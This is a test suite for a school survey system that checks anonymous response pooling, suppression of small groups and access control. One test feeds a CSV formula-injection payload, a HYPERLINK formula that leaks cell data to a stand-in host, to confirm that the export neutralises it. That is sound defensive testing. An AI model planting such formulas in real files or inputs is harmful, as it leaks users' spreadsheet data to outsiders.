import { beforeAll, describe, expect, it } from 'vitest';
import { prisma } from '@/lib/db';
import { addSurveyAction, evaluateSurveyAction, publishedSummaries, publishSummary, remindSurvey } from '@/lib/surveys/feedback';
import { surveyCsv, surveyResults } from '@/lib/surveys/results';
import { editQuestionsSchema } from '@/lib/surveys/schemas';
import { closeDueSurveys, createSurvey, mySurveys, saveSurveyDraft, submitSurvey, surveyForRespondent, updateSurveyQuestions } from '@/lib/surveys/service';
import { createFamily, createGroup, createSchool, createUser } from './support/factories';

const NOW = new Date('2026-11-20T12:00:00Z');
// closesAt 2026-11-30T17:00 in Amsterdam is 16:00Z; anonymous results are released 5 minutes later.
const JUST_CLOSED = new Date('2026-11-30T16:03:00Z');
const AFTER = new Date('2026-12-01T12:00:00Z');
let w: Awaited<ReturnType<typeof world>>;
async function world() {
  const { school, year } = await createSchool();
  const other = await createSchool();
  const director = await createUser(school.id, 'DIRECTOR');
  const teacher = await createUser(school.id, 'TEACHER');
  const otherDirector = await createUser(other.school.id, 'DIRECTOR');
  const big = await createGroup(school.id, year.id, '5A');
  const small = await createGroup(school.id, year.id, '7B');
  const bigFamilies = await Promise.all(Array.from({ length: 6 }, () => createFamily(school.id, year.id, [big.id])));
  const smallFamilies = await Promise.all(Array.from({ length: 3 }, () => createFamily(school.id, year.id, [small.id])));
  const survey = await createSurvey(director.actor, {
    templateKey: 'schoolscan', audiences: ['GUARDIANS', 'TEAM'], groupIds: [big.id, small.id], anonymous: true, opensAt: '2026-11-16T08:00', closesAt: '2026-11-30T17:00',
  });
  return { school, director, teacher, otherDirector, big, small, bigFamilies, smallFamilies, survey };
}
beforeAll(async () => {
  w = await world();
});

async function answerAll(actor: Parameters<typeof submitSurvey>[0], likert: number) {
  const { survey } = await surveyForRespondent(actor, w.survey.id, NOW);
  const answers = Object.fromEntries(survey.questions.map((q) => [q.id, { likert }]));
  return submitSurvey(actor, w.survey.id, answers, NOW);
}

describe('surveys', () => {
  it('invites the guardians of the chosen groups and the team, once each, by mail', async () => {
    expect(await prisma.surveyInvitation.count({ where: { surveyId: w.survey.id, audience: 'GUARDIANS' } })).toBe(9);
    expect(await prisma.surveyInvitation.count({ where: { surveyId: w.survey.id, audience: 'TEAM' } })).toBe(2);
    expect(await prisma.outboxMail.count({ where: { kind: 'survey_invitation', to: w.teacher.user.email } })).toBe(1);
    expect((await mySurveys(w.bigFamilies[0].guardians[0].actor, NOW)).map((s) => s.survey.id)).toEqual([w.survey.id]);
  });

  it('saves answers as you go, resumes them, refuses an incomplete submit, and takes one response per person', async () => {
    const parent = w.bigFamilies[0].guardians[0].actor;
    const { survey } = await surveyForRespondent(parent, w.survey.id, NOW);
    const [q1, q2] = survey.questions;
    await saveSurveyDraft(parent, w.survey.id, { [q1.id]: { likert: 4 } }, NOW);
    expect((await surveyForRespondent(parent, w.survey.id, NOW)).draft[q1.id]).toEqual({ likert: 4 });
    const partial = await submitSurvey(parent, w.survey.id, { [q1.id]: { likert: 4 } }, NOW);
    expect(partial.ok).toBe(false);
    expect(partial.ok === false && partial.missing).toContain(q2.id);
    expect(await prisma.surveyResponse.count({ where: { surveyId: w.survey.id } })).toBe(0);
    expect((await answerAll(parent, 4)).ok).toBe(true);
    await expect(answerAll(parent, 1)).rejects.toMatchObject({ code: 'CONFLICT' });
    await expect(surveyForRespondent(parent, w.survey.id, new Date('2026-12-01T12:00:00Z'))).rejects.toMatchObject({ code: 'ROUND_NOT_OPEN' });
  });

  it('anonymous: the answers wait in the pool with no link to the person, and drafts are gone after submitting', async () => {
    expect(await prisma.surveyResponse.count({ where: { surveyId: w.survey.id } })).toBe(0);
    const pending = await prisma.surveyPendingResponse.findMany({ where: { surveyId: w.survey.id } });
    expect(pending.length).toBe(1);
    expect(Object.keys(pending[0]).sort()).toEqual(['answers', 'audience', 'groupIds', 'id', 'schoolId', 'surveyId']);
    const inv = await prisma.surveyInvitation.findFirstOrThrow({ where: { surveyId: w.survey.id, userId: w.bigFamilies[0].guardians[0].user.id } });
    expect([inv.draft, !!inv.submittedAt]).toEqual([null, true]);
    // The window the threat model names: while it waits, the pool row was written by the spending transaction.
    const [spend] = await prisma.$queryRaw<{ xmin: string }[]>`SELECT xmin::text FROM "SurveyInvitation" WHERE id = ${inv.id}`;
    const [parked] = await prisma.$queryRaw<{ xmin: string }[]>`SELECT xmin::text FROM "SurveyPendingResponse" WHERE id = ${pending[0].id}`;
    expect(parked.xmin).toBe(spend.xmin);
  });

  it('responses are written in batches of at least 5, apart from the spends, leaving 5 in the pool until the close', async () => {
    for (const f of w.bigFamilies.slice(1)) await answerAll(f.guardians[0].actor, 5);
    for (const f of w.smallFamilies) await answerAll(f.guardians[0].actor, 2);
    await answerAll(w.teacher.actor, 3);
    // The 10th answer made the pool big enough: a random 5 of the 10 were written, 5 wait.
    expect(await prisma.surveyPendingResponse.count({ where: { surveyId: w.survey.id } })).toBe(5);
    const responses = await prisma.$queryRaw<{ xmin: string; invitationId: string | null }[]>`SELECT xmin::text, "invitationId" FROM "SurveyResponse" WHERE "surveyId" = ${w.survey.id}`;
    expect(responses.length).toBe(5);
    expect(responses.every((r) => r.invitationId === null)).toBe(true);
    expect(new Set(responses.map((r) => r.xmin)).size).toBe(1);
    const spends = await prisma.$queryRaw<{ xmin: string }[]>`SELECT xmin::text FROM "SurveyInvitation" WHERE "surveyId" = ${w.survey.id} AND "submittedAt" IS NOT NULL`;
    expect(spends.length).toBe(10);
    expect(new Set(spends.map((s) => s.xmin)).size).toBe(10);
    expect(spends.map((s) => s.xmin)).not.toContain(responses[0].xmin);
    // The pool rows' ids are not reused: a response cannot be found by an id seen in the spending transaction.
    const pooled = await prisma.surveyPendingResponse.findMany({ where: { surveyId: w.survey.id }, select: { id: true } });
    expect(await prisma.surveyResponse.count({ where: { id: { in: pooled.map((p) => p.id) } } })).toBe(0);
  });

  it('anonymous results are withheld until the survey has closed, whatever the count; the response rate shows', async () => {
    for (const at of [NOW, JUST_CLOSED]) {
      const r = await surveyResults(w.director.actor, w.survey.id, '', at);
      expect(r.withheld).toBe(true);
      expect(r.questions.every((q) => q.per.length === 0 && q.byGroup.length === 0)).toBe(true);
      expect(r.rates.find((x) => x.audience === 'GUARDIANS')).toMatchObject({ invited: 9, answered: 9 });
      await expect(surveyCsv(w.director.actor, w.survey.id, at)).rejects.toMatchObject({ code: 'ROUND_NOT_OPEN' });
    }
    expect(await prisma.surveyPendingResponse.count({ where: { surveyId: w.survey.id } })).toBe(5);
  });

  it('unsent drafts are deleted when the survey closes', async () => {
    const { survey } = await surveyForRespondent(w.director.actor, w.survey.id, NOW);
    await saveSurveyDraft(w.director.actor, w.survey.id, { [survey.questions[0].id]: { likert: 1 } }, NOW);
    const draftOf = async () => (await prisma.surveyInvitation.findFirstOrThrow({ where: { surveyId: w.survey.id, userId: w.director.user.id } })).draft;
    expect(await closeDueSurveys(JUST_CLOSED, { schoolId: w.school.id })).toBe(0);
    expect(await draftOf()).toEqual({ [survey.questions[0].id]: { likert: 1 } });
    expect(await closeDueSurveys(AFTER, { schoolId: w.school.id })).toBe(1); // this school's one survey
    expect(await draftOf()).toBeNull();
    // Closing also wrote the last 5 answers, in one more batch of their own transaction.
    expect(await prisma.surveyPendingResponse.count({ where: { surveyId: w.survey.id } })).toBe(0);
    const xmins = await prisma.$queryRaw<{ xmin: string; n: number }[]>`SELECT xmin::text, count(*)::int AS n FROM "SurveyResponse" WHERE "surveyId" = ${w.survey.id} GROUP BY 1`;
    expect(xmins.map((x) => x.n).sort()).toEqual([5, 5]);
  });

  it('results after the close: parents vs team, small groups and a small team hidden, computed in SQL; CSV export', async () => {
    const r = await surveyResults(w.director.actor, w.survey.id, '', AFTER);
    expect(r.withheld).toBe(false);
    const q = r.questions[0];
    const parents = q.per.find((p) => p.audience === 'GUARDIANS')!;
    const team = q.per.find((p) => p.audience === 'TEAM')!;
    expect(parents).toMatchObject({ n: 9, hidden: false });
    expect(parents.mean).toBeCloseTo((4 + 5 * 5 + 2 * 3) / 9, 5);
    expect(parents.distribution.find((d) => d.value === '5')?.n).toBe(5);
    expect(team).toMatchObject({ n: 1, hidden: true, mean: null, distribution: [] });
    // 7B (3) is too small; 5A (6) is hidden with it, or 7B would be the parents' total minus 5A.
    expect(q.byGroup).toEqual([
      { name: '5A', n: 6, hidden: true, mean: null },
      { name: '7B', n: 3, hidden: true, mean: null },
    ]);
    expect(r.rates.find((x) => x.audience === 'GUARDIANS')).toMatchObject({ invited: 9, answered: 9 });
    const csv = await surveyCsv(w.director.actor, w.survey.id, AFTER);
    expect(csv).toContain('sectie;vraag;publiek;antwoord;aantal;gemiddelde;spreiding');
    expect(csv).toContain('TEAM;(minder dan 5 antwoorden)');
  });

  it('results are the director’s, of their own school only', async () => {
    await expect(surveyResults(w.teacher.actor, w.survey.id, '', AFTER)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(surveyResults(w.otherDirector.actor, w.survey.id, '', AFTER)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(surveyForRespondent(w.otherDirector.actor, w.survey.id, NOW)).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
});

describe('feedback loop', () => {
  it('reminds only who has not answered, records actions with an evaluation, and publishes a summary to parents', async () => {
    // Everyone but the director has answered by now.
    expect(await remindSurvey(w.director.actor, w.survey.id, NOW)).toBe(1);
    expect(await prisma.outboxMail.count({ where: { kind: 'survey_reminder', to: w.director.user.email } })).toBe(1);
    expect(await prisma.outboxMail.count({ where: { kind: 'survey_reminder', to: w.teacher.user.email } })).toBe(0);

    const q = (await prisma.surveyQuestion.findFirstOrThrow({ where: { surveyId: w.survey.id }, orderBy: { position: 'asc' } })).id;
    const action = await addSurveyAction(w.director.actor, w.survey.id, { questionId: q, heard: 'Ouders willen vaker horen hoe het gaat.', action: 'Na elk gesprek een korte samenvatting in het portaal.', owner: 'Team onderbouw', startsOn: '2026-12-01', dueOn: '2027-02-01' });
    await evaluateSurveyAction(w.director.actor, action.id, { goal: 'Ouders beter informeren', results: 'Gedaan in alle groepen', bottlenecks: '', nextSteps: 'Doorgaan' });
    await expect(evaluateSurveyAction(w.otherDirector.actor, action.id, { goal: 'x', results: 'x', bottlenecks: '', nextSteps: 'x' })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await publishSummary(w.director.actor, w.survey.id, 'Dank voor het invullen! Dit gaan we doen.');
    const [summary] = await publishedSummaries(w.bigFamilies[0].guardians[0].actor);
    expect(summary.summary).toBe('Dank voor het invullen! Dit gaan we doen.');
    expect(summary.actions.map((a) => a.owner)).toEqual(['Team onderbouw']);
    await expect(publishSummary(w.teacher.actor, w.survey.id, 'x')).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
});

describe('builder', () => {
  it('the director reshapes the questions until the first answer, then they are fixed', async () => {
    const s = await createSurvey(w.director.actor, { templateKey: 'school_kind', audiences: ['GUARDIANS'], groupIds: [w.small.id], anonymous: false, opensAt: '2026-11-16T08:00', closesAt: '2026-11-30T17:00' });
    const questions = [
      { section: 'Contact', type: 'LIKERT' as const, text: 'De leerkracht is goed bereikbaar.', required: true, options: [] },
      { section: 'Contact', type: 'SINGLE' as const, text: 'Hoe wilt u informatie krijgen?', required: false, options: ['Portaal', 'E-mail', 'Papier'] },
      { section: 'Tot slot', type: 'OPEN' as const, text: 'Wat wilt u nog kwijt?', required: false, options: [] },
    ];
    expect(editQuestionsSchema.safeParse({ surveyId: s.id, questions: [{ ...questions[1], options: ['Alleen'] }] }).success).toBe(false);
    await expect(updateSurveyQuestions(w.teacher.actor, s.id, questions)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await updateSurveyQuestions(w.director.actor, s.id, questions);
    const stored = await prisma.surveyQuestion.findMany({ where: { surveyId: s.id }, orderBy: { position: 'asc' } });
    expect(stored.map((q) => [q.section, q.type, q.required, q.options.length])).toEqual([['Contact', 'LIKERT', true, 0], ['Contact', 'SINGLE', false, 3], ['Tot slot', 'OPEN', false, 0]]);

    const parent = w.smallFamilies[0].guardians[0].actor;
    expect((await submitSurvey(parent, s.id, { [stored[0].id]: { likert: 5 }, [stored[1].id]: { choices: ['Portaal'] } }, NOW)).ok).toBe(true);
    // Named survey: the response says whose it is.
    expect((await prisma.surveyResponse.findFirstOrThrow({ where: { surveyId: s.id } })).invitationId).not.toBeNull();
    await expect(updateSurveyQuestions(w.director.actor, s.id, questions)).rejects.toMatchObject({ code: 'CONFLICT' });
  });
});

describe('anonymous results: complementary suppression and safe CSV', () => {
  it('hides a group under 5 and the next smallest with it, shows the rest exactly; a formula in an open answer stays text', async () => {
    const { school, year } = await createSchool();
    const director = await createUser(school.id, 'DIRECTOR');
    const [a, b, c] = await Promise.all(['1A', '2B', '3C'].map((name) => createGroup(school.id, year.id, name)));
    const families = async (groupId: string, count: number) => Promise.all(Array.from({ length: count }, () => createFamily(school.id, year.id, [groupId])));
    const [inA, inB, inC] = [await families(a.id, 7), await families(b.id, 5), await families(c.id, 2)];
    const survey = await createSurvey(director.actor, { templateKey: 'satisfaction', audiences: ['GUARDIANS'], groupIds: [a.id, b.id, c.id], anonymous: true, opensAt: '2026-11-16T08:00', closesAt: '2026-11-30T17:00' });
    await updateSurveyQuestions(director.actor, survey.id, [
      { section: 'Contact', type: 'LIKERT', text: 'De school luistert naar mij.', required: true, options: [] },
      { section: 'Tot slot', type: 'OPEN', text: 'Wat wilt u nog kwijt?', required: false, options: [] },
    ]);
    const [likert, open] = await prisma.surveyQuestion.findMany({ where: { surveyId: survey.id }, orderBy: { position: 'asc' } });
    const send = (f: Awaited<ReturnType<typeof createFamily>>, value: number, text?: string) =>
      submitSurvey(f.guardians[0].actor, survey.id, { [likert.id]: { likert: value }, ...(text ? { [open.id]: { text } } : {}) }, NOW);

    // One person sending twice at once: one answer, one refusal.
    const twice = await Promise.allSettled([send(inA[0], 5), send(inA[0], 5)]);
    expect(twice.map((x) => x.status).sort()).toEqual(['fulfilled', 'rejected']);
    expect(twice.find((x) => x.status === 'rejected')).toMatchObject({ reason: { code: 'CONFLICT' } });
    for (const [i, v] of [5, 4, 4, 3, 3, 2].entries()) await send(inA[i + 1], v);
    const texts = ['=HYPERLINK("http://x.example/?"&A1;"klik")', '-2+3', '@juf: dank!', 'Prima', 'Meer uitleg graag'];
    for (const [i, f] of inB.entries()) await send(f, 4, texts[i]);
    for (const f of inC) await send(f, 1);

    const r = await surveyResults(director.actor, survey.id, '', AFTER);
    expect(await prisma.surveyResponse.count({ where: { surveyId: survey.id } })).toBe(14);
    const [q, openQ] = r.questions;
    const parents = q.per[0];
    expect(parents).toMatchObject({ audience: 'GUARDIANS', n: 14, hidden: false });
    expect(parents.mean).toBeCloseTo((26 + 20 + 2) / 14, 10);
    expect(q.byGroup).toEqual([
      { name: '1A', n: 7, hidden: false, mean: 26 / 7 },
      { name: '2B', n: 5, hidden: true, mean: null },
      { name: '3C', n: 2, hidden: true, mean: null },
    ]);
    expect([...openQ.per[0].open].sort()).toEqual([...texts].sort());

    const csv = await surveyCsv(director.actor, survey.id, AFTER);
    expect(csv).toContain(`\r\nTot slot;Wat wilt u nog kwijt?;GUARDIANS;'-2+3;1;;\r\n`);
    expect(csv).toContain(`\r\nTot slot;Wat wilt u nog kwijt?;GUARDIANS;"'=HYPERLINK(""http://x.example/?""&A1;""klik"")";1;;\r\n`);
    expect(csv).toContain(`\r\nTot slot;Wat wilt u nog kwijt?;GUARDIANS;'@juf: dank!;1;;\r\n`);
    expect(csv).toContain(`\r\nTot slot;Wat wilt u nog kwijt?;GUARDIANS;Prima;1;;\r\n`);
  });
});
